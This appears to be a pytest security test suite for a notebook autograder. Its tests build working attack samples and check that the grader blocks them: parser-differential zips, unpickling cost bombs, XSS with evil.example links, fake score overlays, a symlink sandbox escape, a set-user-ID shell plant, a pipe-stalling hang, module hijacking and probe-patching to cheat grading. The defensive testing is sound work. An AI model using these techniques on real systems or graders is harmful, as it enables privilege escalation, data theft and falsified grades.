def test_a_reply_whose_building_costs_the_grader_far_more_than_its_size_is_refused_before_torch_load(attack: str, monkeypatch):
    """A dict of 20,000 ints that share one hash took 7 s to unpickle (quadratic: a million in 13 MB,
    hours); a 200-byte key of tuples nested through the memo is hashed once per path (26 levels: 1 s,
    50: months); bytearray(n) fills n bytes (64 GB for a 10-byte argument); a Counter, set or
    OrderedDict built from a list hides its keys from the dict's own SETITEMS; one memoised list
    given to set() again and again walks it each time, and so does torch.Size by NEWOBJ; punycode
    takes the square of the text's length; a legacy constructor's n elements are filled once
    converted. torch.load is never called for any of them,
    and the checkpoints checks read in scratch pass the same `stored_zip_problem`."""
    import torch

    from reference.grading.proxy import MAX_FRAME, ProtocolError, decode, stored_zip_problem

    if attack.endswith("again_and_again"):
        monkeypatch.setattr("reference.grading.proxy.MAX_OPS", 1_000_000)  # 1,000 walks of 10,000: over a budget this small
    forged = COSTLY[attack]()

    def loaded(*args, **kwargs):
        raise AssertionError("torch.load was called")

    monkeypatch.setattr(torch, "load", loaded)
    assert stored_zip_problem(forged, MAX_FRAME) is not None
    with pytest.raises(ProtocolError, match="unreadable reply"):
        decode(forged)


def _two_faced_zip(hidden: object, shown: object) -> bytes:
    """One set of bytes that torch.load's zip reader (miniz) reads as torch.save(hidden), deflated, and Python's
    zipfile as torch.save(shown), stored. The end record names hidden's directory; Python finds shown's just
    before the end record instead, takes the gap for data put in front of the archive, and shifts every offset
    by it (shown's offsets are written shifted back)."""
    import io
    import struct
    import zipfile

    import torch

    def parts(obj: object, method: int) -> tuple[bytes, list[bytearray]]:
        saved = io.BytesIO()
        torch.save(obj, saved)
        with zipfile.ZipFile(saved) as archive:
            records = [(info.filename, archive.read(info)) for info in archive.infolist()]
        raw = io.BytesIO()
        with zipfile.ZipFile(raw, "w", compression=method) as archive:
            for name, data in records:
                archive.writestr(name, data)
        raw = raw.getvalue()
        end = raw.rfind(b"PK\x05\x06")
        size, offset = struct.unpack("<II", raw[end + 12:end + 20])
        directory, entries, at = raw[offset:offset + size], [], 0
        while at < len(directory):
            n, m, k = struct.unpack("<HHH", directory[at + 28:at + 34])
            entries.append(bytearray(directory[at:at + 46 + n + m + k]))
            at += 46 + n + m + k
        return raw[:offset], entries

    def pad(entries: list[bytearray], extra: int) -> None:  # a longer comment on the last entry
        last = entries[-1]
        last[32:34] = struct.pack("<H", struct.unpack("<H", last[32:34])[0] + extra)
        last += b" " * extra

    hidden_local, hidden_dir = parts(hidden, zipfile.ZIP_DEFLATED)
    shown_local, shown_dir = parts(shown, zipfile.ZIP_STORED)
    gap = sum(map(len, hidden_dir)) - sum(map(len, shown_dir))
    pad(shown_dir, gap) if gap > 0 else pad(hidden_dir, -gap)
    size = sum(map(len, hidden_dir))
    for entry in shown_dir:  # Python adds `size` (the apparent data in front) to each offset
        entry[42:46] = struct.pack("<I", struct.unpack("<I", entry[42:46])[0] + len(hidden_local) - size)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(hidden_dir), len(hidden_dir), size, len(hidden_local) + len(shown_local), 0)
    return hidden_local + shown_local + b"".join(hidden_dir) + b"".join(shown_dir) + end


def test_the_grader_loads_the_archive_its_checks_read():
    """The checks of a reply (sizes, compression, the pickle's cost) read its zip with Python's zipfile, and
    torch.load read it with its own reader: an archive the two read differently passed the checks as a small
    stored one and was unpacked by torch.load as a deflated 1 GB tensor (from 1 MB) or a pickle of millions of
    opcodes (from 4.5 KB). The grader now loads what the checks read; the checkpoints the a3 checks read in
    scratch too."""
    import io
    from pathlib import Path

    import torch

    from reference.grading.local import check_module_path, load_module
    from reference.grading.proxy import MAX_FRAME, decode, stored_zip_problem

    forged = _two_faced_zip({"value": torch.zeros(2**22)}, {"value": 1.5})  # 16 MB deflated into 16 KB
    assert torch.load(io.BytesIO(forged), weights_only=True)["value"].numel() == 2**22  # what torch.load alone reads
    assert stored_zip_problem(forged, MAX_FRAME) is None  # what the checks read is harmless
    assert decode(forged) == {"value": 1.5}
    a3 = load_module(check_module_path("a3_save_every_10_epochs", Path(__file__).resolve().parents[1]))
    assert a3._load("epoch_010.pt", forged) == (None, {"value": 1.5})


def test_honest_replies_and_checkpoints_pass_the_cost_check():
    """What honest code sends or saves: int keys, tuples of small ints, Counters, sets, OrderedDicts,
    parameters, a state_dict with its optimizer, 64-bit ints as values, bytes, a tensor with an
    attribute, a sparse tensor; and a state_dict of millions of weights (its tensors are views of
    their storages, which walk none of their elements)."""
    import collections
    import io

    import torch

    from reference.grading.proxy import MAX_FRAME, decode, encode, stored_zip_problem

    reply = {"a": torch.randn(3, 4), "b": [1, 2.5, "x", None, True], "c": {1: "one", -2: (1, 2), 2**40: 0},
             "d": collections.OrderedDict(x=torch.zeros(2)), "e": collections.Counter({"a": 2}), "big": 2**63, "t": (1,) * 10}
    assert decode(encode(reply))["big"] == 2**63  # 64 bits at most: a longer int is refused (a shape of them held the grader)
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.BatchNorm2d(4))
    opt = torch.optim.Adam(net.parameters())
    net(torch.randn(2, 1, 5, 5)).sum().backward()
    opt.step()
    saved = io.BytesIO()
    torch.save({"G": net.state_dict(), "opt": opt.state_dict(), "epoch": 10, "epochs": {1, 2, 3}, "at": {(1, 2): 0, ("a", "b", "c"): 1, 0.5: 2},
                "p": torch.nn.Parameter(torch.ones(2)), "bytes": bytearray(b"ab"), "dtypes": {torch.float32: 1}, "z": 1 + 2j, "counts": collections.Counter([1, 1, 2])}, saved)
    assert stored_zip_problem(saved.getvalue(), MAX_FRAME) is None
    tagged = torch.ones(3)
    tagged.note = "epoch 10"
    big = torch.nn.Linear(3000, 3000)  # 9 million weights, over MAX_OPS
    saved = io.BytesIO()
    torch.save({"G": big.state_dict(), "tagged": tagged, "raw": b"\x00\xff" * 100, "size": torch.Size([3, 4]), "sparse": torch.eye(3).to_sparse()}, saved)
    assert stored_zip_problem(saved.getvalue(), 2**31) is None


def test_a_raw_cell_shows_no_html_that_loads_or_runs_anything():
    """A raw cell with no format, or with text/html, is written into the feedback page as HTML (the
    student's choice of format is theirs to set). nbconvert cleans it of script, but kept class and id on
    div, span and a: a raw cell laid a fixed green "Score: 33 / 33" bar over the feedback, and a score box
    with a grade cell's id came before the formgrader's own. A raw cell holding HTML elements is shown as
    text now (escaped, under a note); one of plain text is left as written."""
    nb = nbformat.v4.new_notebook()
    html = ('<script>alert(1)</script><img src="http://evil.example/t.png" onerror="alert(2)">'
            '<span style="background:url(http://evil.example/s.png)">x</span><a href="javascript:alert(3)">y</a>')
    laid = ('<div class="alert alert-success navbar-fixed-top">a1_theory (Score: 33.0 / 33.0)</div>'
            '<div class="nbgrader_cell"><span id="q1_minimax" class="score">2</span></div>')
    plain = "notes: D(x) -> 1 when p_g << p_data"
    nb.cells = [nbformat.v4.new_raw_cell(html), nbformat.v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
                nbformat.v4.new_raw_cell(laid), nbformat.v4.new_raw_cell(plain)]
    filled = fill(nb, {"cells": {}, "tests": {}})
    assert [cell.source.startswith("[The grader shows this raw cell as text: its HTML (") for cell in filled.cells] == [True] * 3 + [False]
    assert filled.cells[3].source == plain
    from reference.grading.bridge import browser_elements

    body = _render(filled)
    shown = [(tag, dict(attrs)) for tag, attrs in browser_elements(body)]  # the page's elements, as a browser makes them
    assert not [tag for tag, _ in shown if tag in ("script", "iframe", "svg")]
    assert not [(tag, attrs) for tag, attrs in shown if any(k.startswith("on") or "evil.example" in v or "javascript:" in v
                                                             or v == "q1_minimax" or "navbar-fixed-top" in v for k, v in attrs.items())]
    assert "&lt;div class=&quot;alert" in body or "&lt;div class=\"alert" in body  # shown, as text


def test_cell_tags_and_transient_metadata_do_not_reach_the_feedback():
    """nbconvert writes each of a cell's tags into its class attribute ("celltag_" + the tag): a tag with a space
    added any class ("x navbar-fixed-top" made the student's printed "Score: 33 / 33" a fixed banner, "x hidden" hid
    every test cell and its score), and `transient.remove_source` dropped a graded cell's input and score panel.
    Only the nbgrader metadata (and a raw cell's format) is kept."""
    nb = nbformat.v4.new_notebook()
    printed = nbformat.v4.new_code_cell('print("a1_theory (Score: 33.0 / 33.0)")',
                                        metadata={"tags": ["x navbar-fixed-top", "x alert-success"], "transient": {"remove_source": True}})
    graded = nbformat.v4.new_code_cell("assert True", metadata={"tags": ["x hidden"], "nbgrader": {
        "grade": True, "solution": False, "locked": True, "grade_id": "t1", "points": 1}})
    nb.cells = [printed, graded]
    filled = fill(nb, {"cells": {}, "tests": {}})
    assert dict(filled.cells[0].metadata) == {} and list(filled.cells[1].metadata) == ["nbgrader"]
    body = _render(filled)
    assert "navbar-fixed-top" not in body and "celltag_x" not in body and "Score: 33.0 / 33.0" in body  # its source, shown


def test_the_notebooks_language_info_is_the_courses():
    """nbconvert highlights every code cell (the restored test cells too) with the lexer the notebook's
    language_info names: a language_info that is a string stopped the feedback and the formgrader's
    page of that notebook (AttributeError), and any other lexer was the student's to pick. The graded
    copy has the course's Python one."""
    from reference.grading.bridge import LANGUAGE_INFO

    for info in ("not a dict", {"name": "python", "pygments_lexer": "html"}):
        nb = nbformat.v4.new_notebook()
        nb.metadata.update(language_info=info, kernelspec="not a dict either")
        nb.cells = [nbformat.v4.new_code_cell("x = '<b>'  # a comment")]
        filled = fill(nb, {"cells": {}, "tests": {}})
        assert filled.metadata["language_info"] == LANGUAGE_INFO and "kernelspec" not in filled.metadata
        assert "&lt;b&gt;" in _render(filled)


HIGHLIGHT_BOMBS = {  # what IPython's lexer scans again from every token: each took it 4 to 34 s at this size
    "spaces": "x = 1\n" + " \n" * 3000 + "y = 2",
    "empty_lines": "x = 1\n" + "\n" * 10_000 + "y = 2",
    "indented_lines": "def f():\n" + "    \n" * 3000 + "    return 2",
    "dots": "x = 1\n" + "." * 10_000,
}


@pytest.mark.parametrize("bomb", sorted(HIGHLIGHT_BOMBS))
def test_the_feedback_highlights_code_in_time_linear_in_its_length(bomb: str):
    """nbconvert highlights each code cell with the lexer the notebook's language_info names, IPython's. At every token it
    tries rules that begin with \\s* (which runs across lines) and [\\w.*]*: 6 KB of lines of one space took it 17 s, 10,000
    empty lines 34 s, 10,000 dots 4 s, each growing with the square of the length (a 200 KB cell: hours), in `nbgrader
    generate_feedback` for the class and in the instructor's Jupyter server showing the formgrader. A notebook whose code
    would cost it more than HIGHLIGHT_STEPS names pygments' Python lexer, and its lines of whitespace alone are made empty:
    that lexer scans ahead only from the start of a line that is not empty, so each line is scanned once. Honest code,
    IPython's magics and all, keeps IPython's lexer and every character."""
    from nbconvert.filters.highlight import Highlight2HTML
    from pygments.lexers import PythonLexer, get_lexer_by_name

    from reference.grading.bridge import HIGHLIGHT_STEPS, LANGUAGE_INFO, highlight_steps

    source = HIGHLIGHT_BOMBS[bomb]
    assert highlight_steps(source) > HIGHLIGHT_STEPS
    honest = "%matplotlib inline\nimport torch\n\n\ndef f(x):\n    \n    return torch.nn.functional.relu(x)  # ok?\n"
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(honest), nbformat.v4.new_code_cell(source)]
    filled = fill(nb, {"cells": {}, "tests": {}})
    lexer = get_lexer_by_name(Highlight2HTML(pygments_lexer=filled.metadata.language_info.pygments_lexer).pygments_lexer)
    assert type(lexer) is PythonLexer, type(lexer)
    lines = filled.cells[1].source.split("\n")
    assert len(lines) == len(source.split("\n")) and not any(line and not line.strip() for line in lines)
    assert [line.strip() for line in lines] == [line.strip() for line in source.split("\n")]
    assert _render(filled).count("y</span>") <= 1

    alone = fill(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(honest)]), {"cells": {}, "tests": {}})
    assert alone.metadata.language_info == LANGUAGE_INFO and alone.cells[0].source == honest


def test_code_blocks_in_markdown_are_highlighted_only_up_to_a_length():
    """A code block of a markdown cell that names a language (```c) is highlighted by nbconvert with that lexer, and many
    of pygments' lexers take time with the square of a run of blank lines (C's: 8 KB of lines of one space, 15 s), in the
    merge's checks and wherever the feedback is shown. A cell whose code blocks naming a language hold more than
    MAX_HIGHLIGHTED characters is shown as text, before it is rendered; a short one keeps its colours."""
    from reference.grading.bridge import MAX_HIGHLIGHTED

    long_block = "my code:\n\n> ```c\n> int x;\n" + ">  \n" * 2000 + "> ```\n"  # in a quote: 2,000 lines of one space
    short_block = "my code:\n\n```python\nx = torch.zeros(3)  # the noise\n```\n"
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(long_block), nbformat.v4.new_markdown_cell(short_block)]
    filled = fill(nb, {"cells": {}, "tests": {}})
    assert filled.cells[0].source.startswith("[The grader shows this cell as text: its code blocks naming a language hold "), filled.cells[0].source[:200]
    assert f"more than the feedback colours" in filled.cells[0].source and len(long_block) > MAX_HIGHLIGHTED
    assert filled.cells[1].source == short_block
    assert '<span class="n">torch</span>' in _render(filled)


def test_what_a_cell_printed_or_raised_is_shown_as_text_in_the_feedback():
    """A cell's printed text, its value's repr and its exception (name, message, traceback) reach the
    feedback page: HTML there, and escape sequences (colours, OSC 8 hyperlinks to javascript:) are
    shown as text, never as markup; a value's text/html is not kept at all. Contained by the
    runner's cleaning (text/plain and PNG only) and nbconvert's escaping."""
    from reference.grading.bridge import source_digest
    from reference.grading.runner import _clean_error, _clean_outputs

    markup = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    escapes = "\x1b[31m red \x1b]8;;javascript:alert(3)\x1b\\link\x1b]8;;\x1b\\"
    outputs = _clean_outputs([{"output_type": "stream", "text": markup + escapes},
                              {"output_type": "execute_result", "data": {"text/plain": markup, "text/html": markup}}])
    error = _clean_error({"ename": markup, "evalue": markup, "traceback": [markup, escapes + markup]})
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("1")]
    filled = fill(nb, {"cells": {"0": {"digest": source_digest("1"), "outputs": outputs, "error": error}}, "tests": {}})
    assert all("text/html" not in out.get("data", {}) for out in filled.cells[0].outputs)
    body = _render(filled)
    assert "&lt;script&gt;alert(1)" in body and not RUNS.search(body) and not re.search(r"<a[^>]*javascript", body, re.I)


# ---------------------------------------------------------------------------------------------
# A link put in place of a scratch folder that a restarted worker binds
# ---------------------------------------------------------------------------------------------

RESTART_CHECKS = '''"""Two checks: the first loses the worker (the submission's function exits), the second runs in a new one."""
from reference.grading import check
from reference.grading import probes

ASSIGNMENT = "attack"


@check(points=1)
def test_a_exits(submission):
    submission.run(probes.build, submission.get("boom"), 0)


@check(points=1)
def test_b_after_the_restart(submission):
    seen = submission.run(probes.build, submission.get("peek"), 0)
    assert seen == "nothing", f"the new worker's /tmp held: {seen}"
'''
TMP_LINK = '''
import os

target = {decoy!r}
if os.path.isdir("/grading/tmp") and not os.path.islink("/grading/tmp"):  # the first worker: replace tmp by a link
    try:
        os.rename("/grading/tmp", "/grading/tmp_old")
        os.symlink(target, "/grading/tmp")
        print("replaced")
    except OSError as err:
        print("refused:", err)


def boom():
    os._exit(3)


def peek():
    try:
        with open("/tmp/planted.txt", "w") as f:
            f.write("written by the submission")
    except OSError:
        pass
    try:
        return open("/tmp/secret.txt").read()
    except OSError:
        return "nothing"
'''


def test_a_link_in_place_of_scratch_tmp_is_not_followed_by_a_restarted_worker(tmp_path, monkeypatch):
    """The submission renames /grading/tmp and puts a link to a host folder in its place, then exits inside a check so
    that the grader starts a new worker: that worker's bind of scratch/tmp followed the link, giving the sandbox the host
    folder read-write at /tmp (the course folder, its hidden checks and model answers, the gradebook). /grading/tmp is
    now a mount point of its own (it cannot be renamed), and the host makes scratch's folders anew if a link stands
    in their place."""
    from conftest import attack_course
    from reference.grading.runner import grade_submission
    from reference.grading.sandbox import Limits, sandbox_problem

    if sandbox_problem() is not None:
        pytest.skip(f"the sandbox cannot start here: {sandbox_problem()}")
    root = attack_course(tmp_path, monkeypatch)
    (root / "tests" / "autograders" / "test_attack.py").write_text(RESTART_CHECKS)
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "secret.txt").write_text("instructor secret")
    (decoy / "secret.txt").chmod(0o600)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(TMP_LINK.format(decoy=str(decoy)))]
    nbformat.write(nb, root / "attack.ipynb")
    record = grade_submission(root / "attack.ipynb", "attack", root, limits=Limits(wall_s=120, check_s=30), sandbox=True)
    checks = record["checks"]
    assert checks["test_a_exits"]["earned"] == 0.0
    assert checks["test_b_after_the_restart"] == {**checks["test_b_after_the_restart"], "earned": 1.0}, checks
    assert sorted(p.name for p in decoy.iterdir()) == ["secret.txt"]


# ---------------------------------------------------------------------------------------------
# Set-user-ID files left in scratch
# ---------------------------------------------------------------------------------------------


@needs_sandbox
def test_a_set_user_id_copy_of_a_shell_in_scratch_is_out_of_every_other_users_reach(tmp_path, monkeypatch):
    """Scratch is bound as /grading and owned by the sandbox's root (the host's root, for a grader that is root): a
    submission copied bash there, made it set-user-ID (chmod 4755) and opened /grading to everyone (chmod 755), and
    any user of the host could run it as root while grading went on. /grading is now a folder inside a private one
    (mode 0700) that the sandbox cannot see, so no other user reaches what it leaves there."""
    import os
    import shutil
    import stat
    import subprocess

    source = textwrap.dedent("""
        import os, shutil
        shutil.copy("/bin/sh", "/grading/work/.sh")
        os.chmod("/grading/work/.sh", 0o4755)
        for folder in ("/grading", "/grading/work"):
            os.chmod(folder, 0o755)
        print("planted", oct(os.stat("/grading/work/.sh").st_mode))
    """)

    def during(session):
        planted = session.scratch / "work" / ".sh"
        assert planted.is_file(), "the attack did not run"
        closed = [folder for folder in planted.parents if not os.stat(folder).st_mode & stat.S_IXOTH]
        ran = None
        if os.geteuid() == 0 and shutil.which("runuser"):
            ran = subprocess.run(["runuser", "-u", "nobody", "--", str(planted), "-c", "id -u"], capture_output=True, text=True)
        return closed, ran, session.scratch

    stopped, text, (closed, ran, scratch) = run_cell(tmp_path, monkeypatch, source, during=during)
    assert "planted" in text, text
    assert closed and closed[0] == scratch.parent, f"every folder above the planted shell lets others through: {closed}"
    if ran is not None:
        assert ran.returncode != 0 and ran.stdout.strip() != "0", (ran.returncode, ran.stdout, ran.stderr)
    assert not scratch.parent.exists(), "the private folder around scratch was left behind"


# ---------------------------------------------------------------------------------------------
# A worker that stops reading its requests
# ---------------------------------------------------------------------------------------------

STALLED_READS = """
import fcntl, os, stat, time
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ: the smallest pipe, one page
    except OSError:
        pass
_read = os.read
def _stalling_read(fd, n):
    if n > 4096:  # the body of a request larger than the pipe: never read, so the grader's write never ends
        while True:
            time.sleep(3600)
    return _read(fd, n)
os.read = _stalling_read
"""


def test_a_worker_that_stops_reading_its_requests_costs_its_checks_not_the_grading_run(tmp_path):
    """The grader wrote each request with a blocking write: a worker that shrank its request pipe to one page and never
    read a request larger than that held the grader for ever (one student's submission stopped the class's grading
    run, and without --results every grade of the run was lost). Writes now end at the check's time limit."""
    import threading
    from pathlib import Path

    from conftest import notebook_with_cells
    from reference.grading.runner import grade_notebook
    from reference.grading.sandbox import Limits, sandbox_problem

    root = Path(__file__).resolve().parents[1]
    solution = root / "solutions" / "a1_theory" / "a1_theory.ipynb"
    source = nbformat.read(solution, as_version=4)
    answer = next(c for c in source.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "frechet").source
    path = notebook_with_cells(solution, tmp_path, {"frechet": answer + "\n\n" + STALLED_READS})
    got: list = []
    grading = threading.Thread(target=lambda: got.append(grade_notebook(
        path, "a1_theory", root, limits=Limits(wall_s=60, check_s=5), sandbox=sandbox_problem() is None)), daemon=True)
    grading.start()
    grading.join(timeout=600)  # far past 60 s: a grader that waits for ever fails here instead of holding the suite
    assert not grading.is_alive(), "the grader is still writing a request the worker never reads"
    results = got[0]
    stuck = [name for name, (points, message) in results.items() if points == 0 and "time limit" in message]
    assert stuck, results


def test_a_reference_folder_brought_with_the_submission_is_not_the_course_s(tmp_path, monkeypatch):
    """`python -m reference.grading.worker` put the worker's folder, the submission's files, first on sys.path: a
    submission that brought a folder named reference/ ran its own copy of the worker, and imported from it the
    modules the assignment masks; a torch.py beside the notebook was imported in place of torch before the probes'
    code was snapshotted, and its changes to the probes outlived every restore (so did an opt_einsum.py, which torch
    tries as it is imported). The submission's folder joins sys.path only once the snapshot is taken, after every
    installed module; its own modules are still found (as in a kernel)."""
    from conftest import attack_course
    from reference.grading.runner import session_for
    from reference.grading.sandbox import Limits, sandbox_problem

    root = attack_course(tmp_path, monkeypatch)
    (root / "reference").mkdir()
    (root / "reference" / "__init__.py").write_text("BROUGHT = True\n")
    (root / "helpers.py").write_text("ANSWER = 42\n")
    for module in ("torch", "numpy", "scipy", "json"):  # imported by the worker before any cell, later by a probe, ...
        (root / f"{module}.py").write_text("BROUGHT = True\n")
    (root / "opt_einsum.py").write_text("BROUGHT = True\n")  # an optional package torch tries as it is imported
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(
        "import sys, reference, helpers, torch, numpy, scipy, json\n"
        "print(any(getattr(m, 'BROUGHT', False) for m in (reference, torch, numpy, scipy, json, sys.modules.get('opt_einsum'))), "
        "helpers.ANSWER, sys.argv[0].startswith('/grading'))")]
    nbformat.write(nb, root / "attack.ipynb")
    with session_for(root / "attack.ipynb", "attack", root, limits=Limits(wall_s=60, check_s=30),
                     sandbox=sandbox_problem() is None) as session:
        cell = session.cells_output.get("0", {})
    text = "".join(out.get("text", "") for out in cell.get("outputs", []))
    assert text.strip() == "False 42 False", (text, cell.get("error"))


def test_what_a_worker_prints_as_a_check_runs_does_not_reach_the_feedback(tmp_path):
    """A worker that exited was described with its last output, to say why a worker that could not start ended: a
    submission printed each request's arguments (a hidden check's inputs) and exited, and the check's message, which
    the student reads, quoted them. Output is quoted only while the cells run."""
    from pathlib import Path

    from conftest import notebook_with_cells
    from reference.grading.runner import grade_notebook
    from reference.grading.sandbox import Limits, sandbox_problem

    root = Path(__file__).resolve().parents[1]
    solution = root / "solutions" / "a1_theory" / "a1_theory.ipynb"
    spy = (
        "import gc, os\n"
        "_W = next(type(o) for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'handles'))\n"
        "def _spy(self, op, request):\n"
        "    os.write(2, ('SECRET ' + repr(request)[:150] + '\\n').encode())\n"
        "    os._exit(1)\n"
        "_W.answer = _spy\n"
    )
    source = nbformat.read(solution, as_version=4)
    answer = next(c for c in source.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "frechet").source
    path = notebook_with_cells(solution, tmp_path, {"frechet": answer + "\n\n" + spy})
    results = grade_notebook(path, "a1_theory", root, limits=Limits(wall_s=60, check_s=30), sandbox=sandbox_problem() is None,
                             only=["test_frechet_distance_properties"])
    points, message = results["test_frechet_distance_properties"]
    assert points == 0 and "exited (status 1)" in message and "SECRET" not in message, message


# ---------------------------------------------------------------------------------------------
# Markdown laid over the page, or named as its parts
# ---------------------------------------------------------------------------------------------

LAID_OVER = {
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:white">'
               'Score: 18 / 18</div>',
    "grade_box": 'My answer. <div class="nbgrader_cell"><input class="score" id="q1_minimax" value="2"></div>',
    "named": '<a name="q1_minimax">anchor</a> my answer',
    "math_id": "The loss is $\\cssId{q1_minimax}{L}$.",
    "math_style": "The loss is $\\style{position:fixed; top:0}{\\text{Score: 18 / 18}}$.",
    "heading": "## q1_minimax\n\nMy answer.",
    # ids the formgrader's page gives its other parts (found by session 37's red team): a graded cell's comment box,
    # which its script then finds in the student's answer, and the status banner, which formgrade.css fixes over the page
    "comment_box_heading": "#### q1_minimax-comment\n\nMy answer.",
    "extra_credit_heading": "#### q1_minimax_extra_credit\n\nMy answer.",
    "status_banner_heading": "#### ![my derivation](data:image/png;base64,iVBORw0KGgo=)statusmessage\n\nMy answer.",
    "page_container_heading": "# notebook-container",
    # the feedback page's own link targets, <a name=...> (found by session 37's review): its "(Top)" and "Comment" links
    "top_link_heading": "# top\n\nMy answer.",
    "comment_link_heading": "# comment q1_minimax\n\nMy answer.",
    "math_token_attributes": "The loss is $\\mmlToken{mi}[id=\"q1_minimax\"]{L}$.",
    "math_box_style": "The loss is $\\bbox[position:fixed;top:0;background:white]{\\text{Score: 18 / 18}}$.",
    # a slash where a space belongs: browsers (and nbconvert) read the attribute all the same
    "slash": '<span/style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">Score: 18 / 18</span>',
    "slash_grade_box": 'Answer <input/id="q1_minimax"/value="2">',
    "cdata_overlay": '<![CDATA[><div style="position:fixed;top:0;left:0;width:100%">a1_theory (Score: 33.0 / 33.0)</div>]]>',
}


@pytest.mark.parametrize("attack", sorted(LAID_OVER))
def test_markdown_that_covers_the_page_or_takes_the_name_of_its_grade_boxes_is_shown_as_text(attack: str):
    """A student's markdown kept its style, id and class attributes: a fixed-position "Score: 18 / 18" covered the
    feedback page (and the formgrader's score boxes), and an input with the id of a manually graded cell's box came
    before the real one, which the formgrader's script looks up by id. Each is shown as text; ordinary HTML and
    headings are kept."""
    nb = nbformat.v4.new_notebook()
    graded = nbformat.v4.new_markdown_cell("YOUR ANSWER HERE")
    graded.metadata["nbgrader"] = {"grade_id": "q1_minimax", "grade": True, "solution": True, "points": 2}
    nb.cells = [nbformat.v4.new_markdown_cell(LAID_OVER[attack]), graded]
    filled = fill(nb, {"cells": {}, "tests": {}})
    source = filled.cells[0].source
    assert source.startswith("[The grader shows this cell as text: its HTML ("), source
    assert "could cover or stand in for the page's own parts" in source and LAID_OVER[attack] in source
    body = re.sub(r"<pre>.*?</pre>", "", _render(filled), flags=re.S)
    assert "position:fixed" not in body and 'id="q1_minimax"' not in body
    assert not re.search(r'id="(q1_minimax-comment|q1_minimax_extra_credit|statusmessage|top|comment-q1_minimax)"', body)
    assert body.count('id="notebook-container"') <= 1


def test_a_heading_named_as_any_element_of_the_installed_nbgraders_pages_is_shown_as_text():
    """Every id the installed nbgrader's formgrader and feedback templates write (a graded cell's boxes, the status
    banner, the page's containers) is refused as a heading's anchor, whatever this nbgrader version's templates hold."""
    from reference.grading.bridge import TEMPLATE_ID, _template_ids

    import nbgrader

    folder = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    written = {i for page in ("formgrade", "feedback") for t in (folder / page).glob("*.j2") for i in TEMPLATE_ID.findall(t.read_text())}
    assert written and written <= set(_template_ids())
    for template_id in sorted(written):
        nb = nbformat.v4.new_notebook()
        graded = nbformat.v4.new_markdown_cell("YOUR ANSWER HERE")
        graded.metadata["nbgrader"] = {"grade_id": "q1_minimax", "grade": True, "solution": True, "points": 2}
        heading = "## " + re.sub(r"\{\{.*?\}\}", "q1_minimax", template_id)
        nb.cells = [nbformat.v4.new_markdown_cell(heading + "\n\nMy answer."), graded]
        assert fill(nb, {"cells": {}, "tests": {}}).cells[0].source.startswith("[The grader shows this cell as text"), heading


def test_ordinary_html_and_headings_in_markdown_are_kept():
    kept = ['An answer with <b>bold</b>, <sub>2</sub> and <img src="data:image/png;base64,' + _b64(_png(4, 4)) + '" width="20">.',
            "## Question 1\n\nThe minimax loss $\\log D(x)$.", '<details><summary>Why</summary>Because.</details>']
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(text) for text in kept]
    filled = fill(nb, {"cells": {}, "tests": {}})
    assert [cell.source for cell in filled.cells] == kept


# ---------------------------------------------------------------------------------------------
# The course's code in the worker, rewritten by the cells
# ---------------------------------------------------------------------------------------------

LIBRARY_G = '''
from reference.models import conditional
{patch}

def ConditionalGenerator(nz=100, ngf=64, num_classes=10):
    return conditional.ConditionalGenerator(nz, ngf, 1, 28, num_classes)
'''
PATCHES = {
    "module_renamed": 'conditional.ConditionalGenerator.__module__ = "__main__"',
    "probe_replaced": "import reference.grading.probes_a6 as _p\n_p.module_origins = lambda model: []",
    "probe_rewritten": "import reference.grading.probes_a6 as _p\n_p.module_origins.__code__ = (lambda model: []).__code__",
    # the restoring switched off first: the worker's attribute through gc, and Pristine.restore's code
    "restoring_switched_off": "import gc\nfrom reference.grading.pristine import Pristine\n"
                              "for _o in gc.get_objects():\n"
                              "    if type(_o).__name__ == 'Worker' and hasattr(_o, 'serve'):\n"
                              "        _o.pristine = None\n"
                              "Pristine.restore.__code__ = (lambda self: None).__code__\n"
                              "import reference.grading.probes_a6 as _p\n_p.module_origins = lambda model: []",
    "module_swapped": "import sys, types\n_fake = types.ModuleType('reference.grading.probes_a6')\n"
                      "_fake.__dict__.update(sys.modules['reference.grading.probes_a6'].__dict__)\n"
                      "_fake.module_origins = lambda model: []\nsys.modules['reference.grading.probes_a6'] = _fake",
}


@pytest.mark.parametrize("patch", sorted(PATCHES))
def test_a_cell_that_rewrites_the_probes_or_the_library_does_not_change_what_they_report(tmp_path, patch):
    """The probes run in the worker, beside the cells: a6's generator taken from the course library passed as the
    student's own once a cell renamed the library class's module or replaced the probe that finds where a network's
    classes come from (9 of 9 points), and a2's frozen generator learned once a cell swapped the learning run for one of
    the library's (4 of 4). The course's modules are put back as they were before the cells ran, before each request."""
    from pathlib import Path

    from conftest import notebook_with_cells
    from reference.grading.runner import grade_notebook
    from reference.grading.sandbox import Limits, sandbox_problem

    root = Path(__file__).resolve().parents[1]
    solution = root / "solutions" / "a6_conditional_gan" / "a6_conditional_gan.ipynb"
    path = notebook_with_cells(solution, tmp_path, {"generator": LIBRARY_G.format(patch=PATCHES[patch])})
    points, message = grade_notebook(path, "a6_conditional_gan", root, limits=Limits(wall_s=120), sandbox=sandbox_problem() is None,
                                     only=["test_generator_output_shape"])["test_generator_output_shape"]
